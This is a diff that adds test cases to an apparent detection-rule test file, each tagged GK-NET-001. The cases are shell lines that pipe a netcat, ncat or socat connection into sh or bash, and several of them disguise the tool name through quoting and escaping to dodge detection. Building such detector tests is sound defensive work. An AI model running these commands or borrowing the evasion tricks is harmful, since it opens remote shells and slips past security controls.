@@ -171,6 +171,12 @@ shopt -s nullglob; cat src/*.py
 # ruleid: GK-NET-001
 nc 10.0.0.1 4444 | sh
 # ruleid: GK-NET-001
+"socat" tcp:10.0.0.1:4444 - | sh
+# ruleid: GK-NET-001
+n''c 10.0.0.1 4444 | bash
+# ruleid: GK-NET-001
+\nc 10.0.0.1 4444 | bash
+# ruleid: GK-NET-001
 ncat 10.0.0.1 4444 2>&1 | /bin/bash
 # ruleid: GK-NET-001
 nc -l 4444 | tee log | bash -i
